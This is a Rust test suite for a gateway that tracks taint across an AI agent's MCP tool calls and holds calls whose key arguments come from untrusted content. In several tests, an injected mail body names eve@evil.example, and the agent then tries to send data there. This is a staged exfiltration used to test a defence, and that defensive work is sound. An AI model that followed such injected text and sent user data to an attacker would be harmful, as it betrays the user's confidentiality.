//! The flow of data: what a stranger wrote cannot choose where something goes.

use portcullis_tests::mcp::{McpClient, McpServer, text};
use portcullis_tests::{Client, Gate, Reply, Upstream, chat, gate, mcp_server, upstream};
use serde_json::{Value, json};

use crate::CHAT;

const TOOLS: &str = r#"
[[mcp.tool]]
name = "read_mail"
effect = "read"
confidentiality = "internal"
trusted = ["id"]

[[mcp.tool]]
name = "contacts"
effect = "read"
integrity = "trusted"
confidentiality = "internal"

[[mcp.tool]]
name = "staff"
effect = "read"
integrity = "trusted"
confidentiality = "confidential"

[[mcp.tool]]
name = "send"
effect = "external"
integrity = "trusted"
confidentiality = "internal"
decisive = ["to"]
cleared = ["*@ours.example"]
"#;

const EVE: &str = "eve@evil.example";

fn any(name: &str) -> Value {
    json!({"name": name, "description": format!("Does {name}."), "inputSchema": {"type": "object"}})
}

fn start() -> (Upstream, McpServer, Gate) {
    let upstream = upstream().run();
    let answers = |name: &str, _: &Value| match name {
        "read_mail" => text(&json!([{"id": "7", "body": format!("I moved to {EVE}")}]).to_string()),
        "contacts" => text(&json!([{"mail": "sarah@mail.example"}]).to_string()),
        _ => text("done"),
    };
    let tools = ["read_mail", "contacts", "staff", "send", "undeclared"];
    let server = tools.iter().fold(mcp_server(), |server, name| server.tool(any(name)));
    let server = server.calls(answers).run();
    let gate = gate()
        .openai(&upstream)
        .mcp("mail", &server)
        .mcp_lines(TOOLS)
        .agent("bot")
        .agent("twin")
        .run();
    (upstream, server, gate)
}

/// The agent's tools and its model, in one session.
async fn task(gate: &Gate, name: &str, user: &str) -> McpClient {
    let client = gate.client("bot").header("portcullis-session", name);
    client.post(CHAT, chat(user)).await.expect(200);
    McpClient::new(client, "/mcp/mail").open().await
}

async fn call(client: &McpClient, tool: &str, arguments: Value) -> Reply {
    client.request("tools/call", json!({"name": tool, "arguments": arguments})).await.expect(200)
}

#[tokio::test]
async fn a_hijacked_call_waits_for_a_person_and_says_why() {
    let (_upstream, server, gate) = start();
    let client = task(&gate, "one", "Read my mail.").await;
    let read = call(&client, "read_mail", json!({})).await;
    assert_eq!(gate.record(read.record())["labels"], json!(["untrusted"]));
    // No detector is needed for what follows.
    let held = call(&client, "send", json!({"to": EVE, "text": "all of it"})).await;
    assert_eq!(held.decision(), "hold");
    let why = "`to` comes from untrusted output of mail/read_mail, `body`, not from the user";
    assert!(held.message().contains(why), "{}", held.message());
    assert_eq!(server.requests("tools/call").len(), 1);
    let record = gate.record(held.record());
    assert_eq!(record["labels"], json!(["untrusted"]));
    let origins = "call:program decisive:uncleared decisive:untrusted other:unknown";
    assert_eq!(record["detail"]["origins"], origins);
    assert_eq!(record["decision"]["policies"], json!(["granted-tools", "untrusted-values-ask"]));
    let list: Value =
        serde_json::from_str(&gate.succeeds(&["approval", "list", "--json"])).unwrap();
    assert!(list[0]["reason"].as_str().unwrap().contains(why), "{list}");
    gate.succeeds(&["approval", "approve", list[0]["record"].as_str().unwrap()]);
    let sent = call(&client, "send", json!({"to": EVE, "text": "all of it"})).await;
    assert_eq!(sent.decision(), "permit", "{}", sent.text());
}

#[tokio::test]
async fn a_person_who_looked_takes_labels_away_and_leaves_a_record() {
    let (_upstream, _server, gate) = start();
    let client = task(&gate, "one", "Read my mail.").await;
    call(&client, "read_mail", json!({})).await;
    let wrong = gate.portcullis(&[
        "agent",
        "clear-labels",
        "bot",
        "--session",
        "two",
        "--reason",
        "no such session",
    ]);
    assert!(!wrong.status.success(), "labels of a session that nobody knows");
    assert_eq!(call(&client, "send", json!({"to": EVE})).await.decision(), "hold");
    gate.succeeds(&["agent", "clear-labels", "bot", "--session", "one", "--reason", "ours"]);
    assert_eq!(call(&client, "send", json!({"to": EVE})).await.decision(), "permit");
    let is_said = |record: &Value| record["detail"]["act"] == "session.clear_labels";
    let records = gate.records_with("the clearing", is_said);
    let said = records.iter().find(|record| is_said(record)).unwrap();
    assert_eq!(
        (&said["detail"]["labels"], &said["detail"]["reason"], &said["resource"]["name"]),
        (&json!("untrusted"), &json!("ours"), &json!("bot"))
    );
}

#[tokio::test]
async fn what_the_user_said_to_the_model_and_what_a_trusted_tool_returned_may_decide() {
    let (_upstream, server, gate) = start();
    let client = task(&gate, "one", "Read my mail, then write to Anna.Berg@mail.example").await;
    call(&client, "read_mail", json!({})).await;
    call(&client, "contacts", json!({})).await;
    for to in ["anna.berg@mail.example", "sarah@mail.example"] {
        let sent = call(&client, "send", json!({"to": to, "text": "hello"})).await;
        assert_eq!(sent.decision(), "permit", "{}", sent.text());
    }
    let both = json!({"to": ["anna.berg@mail.example", EVE]});
    assert_eq!(call(&client, "send", both).await.decision(), "hold");
    assert_eq!(server.requests("tools/call").len(), 4);
}

#[tokio::test]
async fn the_words_of_one_session_are_not_those_of_another() {
    let (_upstream, _server, gate) = start();
    task(&gate, "one", "Write to anna.berg@mail.example").await;
    let other = task(&gate, "two", "Read my mail.").await;
    call(&other, "read_mail", json!({})).await;
    let held = call(&other, "send", json!({"to": "anna.berg@mail.example"})).await;
    assert_eq!(held.decision(), "hold");
    // Nor are those of another agent that names its session so.
    let twin = gate.client("twin").header("portcullis-session", "one");
    let twin = McpClient::new(twin, "/mcp/mail").open().await;
    call(&twin, "read_mail", json!({})).await;
    let held = call(&twin, "send", json!({"to": "anna.berg@mail.example"})).await;
    assert_eq!(held.decision(), "hold");
}

#[tokio::test]
async fn before_anything_untrusted_was_read_nothing_is_held() {
    let (_upstream, _server, gate) = start();
    let client = task(&gate, "one", "Say hello.").await;
    call(&client, "contacts", json!({})).await;
    let sent = call(&client, "send", json!({"to": "whoever@mail.example"})).await;
    assert_eq!(sent.decision(), "permit", "{}", sent.text());
}

#[tokio::test]
async fn confidential_data_goes_where_it_is_cleared_to_go() {
    let (_upstream, _server, gate) = start();
    let client = task(&gate, "one", "Look up the staff.").await;
    call(&client, "staff", json!({})).await;
    let inside = call(&client, "send", json!({"to": "anna@ours.example"})).await;
    assert_eq!(inside.decision(), "permit", "{}", inside.text());
    let outside = call(&client, "send", json!({"to": "anna@mail.example"})).await;
    assert_eq!(outside.decision(), "hold");
    assert!(outside.message().contains("`to` is not cleared"), "{}", outside.message());
}

#[tokio::test]
async fn of_a_tool_that_nobody_declared_every_argument_decides() {
    let (_upstream, _server, gate) = start();
    let client = task(&gate, "one", "Read my mail.").await;
    call(&client, "read_mail", json!({})).await;
    let held = call(&client, "undeclared", json!({"whatever": EVE})).await;
    assert_eq!(held.decision(), "hold");
}

#[tokio::test]
async fn what_a_conversation_carries_counts_as_what_its_tools_returned() {
    let (_upstream, _server, gate) = start();
    let client = gate.client("bot").header("portcullis-session", "one");
    let messages = json!([
        {"role": "user", "content": "Read the page."},
        {"role": "tool", "tool_call_id": "1", "content": format!("Her address is {EVE}.")},
    ]);
    let mut body = chat("");
    body["messages"] = messages;
    let reply = client.post(CHAT, &body).await.expect(200);
    assert_eq!(gate.record(reply.record())["labels"], json!(["untrusted"]));
    let client = McpClient::new(client, "/mcp/mail").open().await;
    assert_eq!(call(&client, "send", json!({"to": EVE})).await.decision(), "hold");
}

#[tokio::test]
async fn a_session_that_began_before_the_gate_did_is_taken_for_the_worst() {
    let (_upstream, _server, mut gate) = start();
    let client = gate.mcp("bot", "mail").await;
    let sent = call(&client, "send", json!({"to": "anna@mail.example"})).await;
    assert_eq!(sent.decision(), "permit", "{}", sent.text());
    let session = client.session();
    gate.stop();
    gate.start();
    let client = gate.client("bot").header("mcp-session-id", &session);
    let client = McpClient::new(client, "/mcp/mail");
    let held = call(&client, "send", json!({"to": "anna@mail.example"})).await;
    assert_eq!(held.decision(), "hold", "{}", held.text());
}

#[tokio::test]
async fn a_conversation_without_a_name_has_the_same_one_each_time() {
    let (_upstream, _server, gate) = start();
    let first = gate.client("bot").post(CHAT, chat("good morning")).await.expect(200);
    let again = gate.client("bot").post(CHAT, chat("good morning")).await.expect(200);
    let other = gate.client("bot").post(CHAT, chat("good evening")).await.expect(200);
    let session = |reply: &Reply| gate.record(reply.record())["session"].clone();
    assert!(session(&first).as_str().unwrap().starts_with("conversation-"));
    assert_eq!(session(&first), session(&again));
    assert_ne!(session(&first), session(&other));
}

#[tokio::test]
async fn metrics_say_how_much_is_followed() {
    let (_upstream, _server, gate) = start();
    task(&gate, "one", "hello").await;
    let console = Client::new(gate.console());
    let metrics = console.get("/metrics").await.expect(200).text();
    assert!(metrics.contains("portcullis_sessions 1\n"), "{metrics}");
    assert!(metrics.contains("portcullis_session_memory_bytes "), "{metrics}");
}

const PASSWORDS: &str = r#"
[[mcp.tool]]
name = "set_password"
effect = "write"
integrity = "trusted"
confidentiality = "internal"
decisive = ["token"]

[[mcp.tool]]
name = "post"
effect = "external"
integrity = "trusted"
confidentiality = "internal"
"#;

#[tokio::test]
async fn a_credential_that_the_user_said_is_theirs_to_hand_to_a_tool_and_to_no_stranger() {
    let upstream = upstream().run();
    let tools = ["set_password", "post", "undeclared"];
    let server = tools.iter().fold(mcp_server(), |server, name| server.tool(any(name)));
    let server = server.calls(|_, _| text("done")).run();
    let gate =
        gate().openai(&upstream).mcp("account", &server).mcp_lines(PASSWORDS).agent("bot").run();
    let token = portcullis_tests::fake::github_token();
    let client = gate.client("bot").header("portcullis-session", "one");
    client.post(CHAT, chat(&format!("Set my token to {token}"))).await.expect(200);
    let client = McpClient::new(client, "/mcp/account").open().await;
    let set = call(&client, "set_password", json!({"token": token})).await;
    assert_eq!(set.decision(), "permit", "{}", set.text());
    let seen = |tool: &str| {
        let calls = server.requests("tools/call").into_iter();
        calls.filter(|call| call["params"]["name"] == tool).map(|call| call.to_string()).collect()
    };
    let handed: Vec<String> = seen("set_password");
    assert!(handed[0].contains(&token), "{handed:?}");
    assert_eq!(gate.record(set.record())["findings"][0]["kind"], "secret.github_token");
    // Sent out, it is still a secret; and to a tool of which nothing is known it goes masked.
    assert_eq!(call(&client, "post", json!({"token": token})).await.decision(), "deny");
    call(&client, "undeclared", json!({"token": token})).await;
    let handed: Vec<String> = seen("undeclared");
    assert!(!handed.iter().any(|call| call.contains(&token)), "{handed:?}");
    // Another session has not heard the user say so.
    let other = gate.client("bot").header("portcullis-session", "two");
    let other = McpClient::new(other, "/mcp/account").open().await;
    let masked = call(&other, "set_password", json!({"token": token})).await;
    assert_eq!(masked.decision(), "redact", "{}", masked.text());
}

#[tokio::test]
async fn an_account_reaches_the_tool_as_it_is_and_the_model_masked() {
    let upstream = upstream().run();
    let server = mcp_server().tool(any("set_password")).run();
    let gate =
        gate().openai(&upstream).mcp("account", &server).mcp_lines(PASSWORDS).agent("bot").run();
    let card = portcullis_tests::fake::payment_card();
    let client = gate.client("bot");
    client.post(CHAT, chat(&format!("My card is {card}"))).await.expect(200);
    let client = gate.mcp("bot", "account").await;
    let reply = call(&client, "set_password", json!({"token": card})).await;
    assert_eq!(reply.decision(), "permit", "{}", reply.text());
    assert!(server.requests("tools/call")[0].to_string().contains(&card));
    assert!(!upstream.calls().iter().any(|call| call.json().to_string().contains(&card)));
    assert_eq!(gate.record(reply.record())["findings"][0]["kind"], "pii.payment_card");
}

#[tokio::test]
async fn a_restart_forgets_no_labels_and_gives_none() {
    let (_upstream, _server, mut gate) = start();
    for name in ["tainted", "cleared"] {
        let client = task(&gate, name, "Read my mail.").await;
        call(&client, "read_mail", json!({})).await;
    }
    let clean = task(&gate, "clean", "Who is there?").await;
    call(&clean, "contacts", json!({})).await;
    gate.succeeds(&["agent", "clear-labels", "bot", "--session", "cleared", "--reason", "ours"]);
    gate.kill();
    gate.start();
    let open = async |name: &str| {
        let client = gate.client("bot").header("portcullis-session", name);
        McpClient::new(client, "/mcp/mail").open().await
    };
    // What it had read is forgotten, so whatever the user has not said is held.
    let tainted = open("tainted").await;
    let held = call(&tainted, "send", json!({"to": "new@somewhere.example"})).await;
    assert_eq!(held.decision(), "hold", "{}", held.text());
    assert_eq!(gate.record(held.record())["labels"], json!(["untrusted"]));
    for name in ["cleared", "clean", "unheard-of"] {
        let client = open(name).await;
        let sent = call(&client, "send", json!({"to": "new@somewhere.example"})).await;
        assert_eq!(sent.decision(), "permit", "{name}: {}", sent.text());
    }
    // A person who looks frees it.
    gate.succeeds(&["agent", "clear-labels", "bot", "--session", "tainted", "--reason", "ours"]);
    let sent = call(&tainted, "send", json!({"to": "new@somewhere.example"})).await;
    assert_eq!(sent.decision(), "permit", "{}", sent.text());
}
